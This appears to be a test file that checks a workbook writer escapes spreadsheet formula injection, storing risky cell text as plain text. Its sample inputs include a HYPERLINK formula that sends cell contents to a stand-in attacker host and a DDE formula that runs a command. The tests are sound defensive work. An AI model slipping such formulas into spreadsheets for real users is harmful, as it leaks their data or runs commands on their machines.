import { unzipSync } from 'fflate';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { writeWorkbook } from '../../../../analytics/formats/workbook/write.ts';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
];

describe('text that a spreadsheet could work out', () => {
  const sheet = {
    name: 'A',
    columns: [
      { header: '=1+1', kind: 'text' as const },
      { header: 'Number', kind: 'number' as const },
    ],
    rows: DANGEROUS.map((text) => [text, text]),
  };

  it('is written without a single formula', async () => {
    for (const [path, bytes] of Object.entries(unzipSync(await writeWorkbook([sheet])))) {
      if (path.startsWith('xl/worksheets/'))
        expect(Buffer.from(bytes).toString()).not.toMatch(/<f[\s>]/);
    }
  });

  it('is a text in a cell formatted as text, in columns of numbers too', async () => {
    const { sheets } = await readXlsx(await writeWorkbook([sheet]), { readStyles: true });
    for (const row of [0, 1, 2, 3, 4, 5]) {
      for (const column of [0, 1]) {
        const cell = sheets[0]?.cells?.get(`${String(row)},${String(column)}`);
        expect(cell).toMatchObject({ type: 'string', style: { numFmt: '@' } });
      }
    }
  });
});
